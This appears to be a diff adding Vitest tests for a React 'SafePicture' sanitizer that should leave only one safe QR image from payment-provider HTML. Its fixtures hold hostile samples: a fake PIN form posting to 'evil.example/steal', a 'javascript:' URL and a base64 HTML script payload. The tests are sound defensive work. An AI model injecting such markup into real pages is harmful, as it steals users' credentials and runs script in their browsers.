@@ -1,6 +1,6 @@
 import { cleanup, render } from '@testing-library/react';
 import { afterEach, describe, expect, it, vi } from 'vitest';
-import { SafeHtml } from '../../../src/ui/SafeHtml';
+import { SafeHtml, SafePicture } from '../../../src/ui/SafeHtml';
 
 afterEach(cleanup);
 
@@ -61,5 +61,33 @@ describe('SafeHtml keeps server HTML in its box', () => {
     expect(box.querySelector('a')).toHaveAttribute('href', 'https://example.test/t');
     // The box that contains whatever got through (styles.css .server-html), with the caller's class.
     expect(box.firstElementChild).toHaveClass('server-html', 'html-block');
+  });
+});
+
+describe("SafePicture: a payment provider's QR markup is one picture (issue 53)", () => {
+  const GIF = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
+  const shown = (html: string) =>
+    render(<SafePicture html={html} className="qr-image" fallback={<p>no picture</p>} />).container;
+
+  it('keeps the first image alone: no form, no password field, no link, no text around it', () => {
+    const box = shown(
+      `<form action="https://evil.example/steal"><p>Enter your PIN</p><input type="password" name="pin"><button>OK</button></form>` +
+        `<a href="https://evil.example"><img alt="QR" src="${GIF}"></a><img src="${GIF}" alt="second">`,
+    );
+    expect(box.querySelectorAll('img')).toHaveLength(1);
+    expect(box.querySelector('img')).toHaveAttribute('src', GIF);
+    expect(box.querySelector('img')).toHaveAttribute('alt', 'QR');
+    expect(box.querySelector('form, input, button, a')).toBeNull();
+    expect(box.textContent).toBe('');
+  });
+
+  it('takes a data: image or a web address of the allow-list, never a script address or another data type', () => {
+    expect(shown(`<img src="https://cdn.example/qr.png">`).querySelector('img')).toHaveAttribute(
+      'src',
+      'https://cdn.example/qr.png',
+    );
+    for (const src of ['javascript:alert(1)', 'data:text/html;base64,PHNjcmlwdD4=', ''])
+      expect(shown(`<img src="${src}" alt="QR">`).textContent, src).toBe('no picture');
+    expect(shown('<b>QR</b>').textContent).toBe('no picture');
   });
 });
